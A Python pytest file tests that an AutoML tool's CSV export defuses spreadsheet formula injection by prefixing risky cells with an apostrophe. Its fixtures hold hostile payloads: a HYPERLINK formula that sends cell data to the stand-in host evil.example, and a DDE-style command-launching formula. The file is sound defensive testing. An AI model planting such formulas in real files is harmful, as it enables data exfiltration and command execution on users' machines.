"""CSV files the studio writes for people never hand a spreadsheet a formula to run (issue 8)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from sklearn.datasets import load_iris

from automlops.cli import main
from automlops.core.csv_safety import neutralise_cell, neutralise_frame, to_people_csv

HTTP_BOUNDS = ("MLFLOW_HTTP_REQUEST_TIMEOUT", "MLFLOW_HTTP_REQUEST_MAX_RETRIES", "MLFLOW_HTTP_REQUEST_BACKOFF_FACTOR")


@pytest.fixture(autouse=True)
def _restore_http_bounds(monkeypatch: pytest.MonkeyPatch) -> None:
    """`automlops train` sets MLflow's HTTP bounds process-wide: undo that after each test."""
    for var, value in zip(HTTP_BOUNDS, ("10", "2", "1"), strict=True):
        monkeypatch.setenv(var, value)


EVIL = ['=HYPERLINK("http://evil.example/?d="&A2,"click")', "@SUM(A1)", "+1", "-2+3", "\tx", "\r=1"]


@pytest.mark.parametrize("value", EVIL)
def test_formula_leading_text_gets_an_apostrophe(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-3.5, 7, np.nan, None, "-12", "-1.5e-05", "plain", "a=b", "", "'=quoted"])
def test_numbers_and_harmless_text_are_unchanged(value: object) -> None:
    out = neutralise_cell(value)
    assert out is value or out == value


def test_frame_keeps_numeric_columns_numeric_and_neutralises_text_and_names() -> None:
    frame = pd.DataFrame({"x": [-1.5, 2.0], "label": pd.Categorical(["@SUM(A1)", "ok"]), "=bad": ["-4", "+5"]})
    out = neutralise_frame(frame)
    assert out["x"].dtype == frame["x"].dtype and out["x"].tolist() == [-1.5, 2.0]
    assert out["label"].tolist() == ["'@SUM(A1)", "ok"] and out["'=bad"].tolist() == ["-4", "'+5"]
    assert frame["label"].tolist() == ["@SUM(A1)", "ok"]  # the input is not modified
    assert to_people_csv(frame, raw=True) == frame.to_csv(index=False)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_predict_out_neutralises_formula_labels_unless_raw(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A real model trained on labels that are formulas: `predict --out` writes them defused."""
    frame = load_iris(as_frame=True).frame
    labels = {0: EVIL[0], 1: "@SUM(A1)", 2: "-cmd|' /C calc'!A0"}
    frame["target"] = frame["target"].map(labels)
    data = home / "evil.csv"
    frame.to_csv(data, index=False)
    assert main(["train", str(data), "--target", "target", "--preset", "fast", "--n-trials", "2",
                 "--name", "evil"]) == 0
    out, raw = home / "out.csv", home / "raw.csv"
    assert main(["predict", str(data), "--model", "evil", "--out", str(out), "--proba"]) == 0
    assert main(["predict", str(data), "--model", "evil", "--out", str(raw), "--raw"]) == 0
    safe_rows, raw_rows = _rows(out.read_text()), _rows(raw.read_text())
    assert {row[0] for row in safe_rows[1:]} <= {"'" + v for v in labels.values()}
    assert {row[0] for row in raw_rows[1:]} <= set(labels.values())
    assert all(float(cell) >= 0 for row in safe_rows[1:] for cell in row[1:])  # probabilities stay numbers
    capsys.readouterr()
    assert main(["predict", str(data), "--model", "evil"]) == 0  # stdout gets the same protection
    assert all(row[0].startswith("'") for row in _rows(capsys.readouterr().out)[1:])
